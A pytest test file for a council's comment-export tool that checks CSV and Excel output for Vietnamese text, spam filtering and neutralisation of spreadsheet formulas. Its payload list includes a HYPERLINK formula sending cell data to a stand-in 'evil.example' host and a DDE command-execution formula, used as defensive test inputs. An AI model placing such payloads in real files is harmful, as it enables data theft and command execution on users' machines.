"""The council's export: every comment, Vietnamese intact, safe to open in Excel."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from comments_support import CLOSED, OPEN, comment
from openpyxl import load_workbook

from site_builder.cli import main
from site_builder.comments.staff.export import HEADERS

TEXT = "Ông Nguyễn Văn Thành đã tận tình giúp đỡ bà con; đề nghị xem xét khen thưởng.\nXin cảm ơn."


@pytest.fixture
def register(client, store):
    """Three comments: one ordinary, one with formula-like text, one marked spam."""
    client.post("/api/comments", json=comment(text=TEXT))
    client.post("/api/comments", json=comment(name="Trần Thị Bích", contact="+84 912 000 111",
                                              text="=HYPERLINK(\"http://x\") cảnh báo", address=None))
    spam = client.post("/api/comments", json=comment(website="spam")).json()["receipt"]
    return store, spam


def _export(database_url, records, tmp_path, suffix, *extra):
    output = tmp_path / f"y-kien{suffix}"
    code = main(["comments", "export", "--batch", OPEN, "--output", str(output),
                 "--database", database_url, "--records", str(records), *extra])
    assert code == 0
    return output


def test_csv_has_a_bom_every_comment_and_vietnamese_intact(register, database_url, records, tmp_path):
    output = _export(database_url, records, tmp_path, ".csv")

    raw = output.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with output.open(encoding="utf-8-sig", newline="") as file:
        table = list(csv.reader(file))
    assert table[0] == HEADERS
    assert len(table) == 4
    first = dict(zip(HEADERS, table[1], strict=True))
    assert first["Nội dung góp ý"] == TEXT
    assert first["Họ và tên người góp ý"] == "Nguyễn Văn Thành"
    assert first["Tập thể, cá nhân được góp ý"] == "Hợp tác xã Nông nghiệp Hải Đông"
    assert first["Thời điểm nhận"] == "20/11/2026 10:00:00"
    assert first["Kênh"] == "Trang web" and first["Trạng thái"] == "Mới nhận"
    assert table[3][HEADERS.index("Trạng thái")] == "Thư rác" and table[3][-1] == "Có"


def test_csv_neutralises_formulas(register, database_url, records, tmp_path):
    output = _export(database_url, records, tmp_path, ".csv")

    with output.open(encoding="utf-8-sig", newline="") as file:
        second = dict(zip(HEADERS, list(csv.reader(file))[2], strict=True))
    assert second["Nội dung góp ý"] == "'=HYPERLINK(\"http://x\") cảnh báo"
    assert second["Điện thoại/Email"] == "'+84 912 000 111"


def test_xlsx_has_every_comment_with_real_times_and_text_not_formulas(register, database_url, records,
                                                                     tmp_path):
    output = _export(database_url, records, tmp_path, ".xlsx")

    sheet = load_workbook(output).active
    table = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert table[0] == HEADERS
    assert len(table) == 4
    first = dict(zip(HEADERS, table[1], strict=True))
    assert first["Nội dung góp ý"] == TEXT
    assert first["Thời điểm nhận"] == datetime(2026, 11, 20, 10, 0)
    second = sheet.cell(row=3, column=HEADERS.index("Nội dung góp ý") + 1)
    assert second.value == "=HYPERLINK(\"http://x\") cảnh báo"
    assert second.data_type != "f"


def test_export_without_spam(register, database_url, records, tmp_path):
    output = _export(database_url, records, tmp_path, ".csv", "--without-spam")

    with output.open(encoding="utf-8-sig", newline="") as file:
        assert len(list(csv.reader(file))) == 3


def test_format_option_wins_over_the_file_name(register, database_url, records, tmp_path):
    output = _export(database_url, records, tmp_path, ".dat", "--format", "xlsx")

    assert output.read_bytes().startswith(b"PK")


def test_export_of_a_batch_without_comments_has_the_header_only(client, database_url, records, tmp_path):
    output = tmp_path / "empty.csv"

    assert main(["comments", "export", "--batch", CLOSED, "--output", str(output),
                 "--database", database_url, "--records", str(records)]) == 0
    with output.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [HEADERS]


def test_export_of_an_unknown_batch_fails_clearly(database_url, store, records, tmp_path, capsys):
    code = main(["comments", "export", "--batch", "khong-co", "--output", str(tmp_path / "x.csv"),
                 "--database", database_url, "--records", str(records)])

    assert code == 1
    assert "khong-co" in capsys.readouterr().err


SEMICOLON_PAYLOADS = [
    'x;=HYPERLINK("http://evil.example/?leak="&A1;"bấm vào đây");y',
    "ý kiến;+1+1;@SUM(1);-2",
    "dòng một\n=1+1\r\n-3",
    'a; =CMD|"/c calc"!A0;\t=2;\r=3;"=4"',
]


def test_csv_has_every_field_quoted(register, database_url, records, tmp_path):
    output = _export(database_url, records, tmp_path, ".csv")

    raw = output.read_bytes().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(raw, newline="")))
    requoted = io.StringIO(newline="")
    csv.writer(requoted, quoting=csv.QUOTE_ALL).writerows(table)
    assert raw == requoted.getvalue()


def test_csv_read_with_semicolon_separator_has_no_formula_cell(client, store, database_url, records,
                                                              tmp_path):
    """Excel where the list separator is ";" splits every line at ";" whatever the quotes say."""
    for text in SEMICOLON_PAYLOADS:
        client.post("/api/comments", json=comment(text=text))
    output = _export(database_url, records, tmp_path, ".csv")

    with output.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
    live = [cell for cell in cells if cell.lstrip(' \t\r"').startswith(("=", "+", "-", "@"))]
    assert live == []
    with output.open(encoding="utf-8-sig", newline="") as file:
        texts = [row[HEADERS.index("Nội dung góp ý")] for row in list(csv.reader(file))[1:]]
    assert [text.replace("'", "") for text in texts] == [text.replace("\r\n", "\n").replace("\r", "\n")
                                                         for text in SEMICOLON_PAYLOADS]
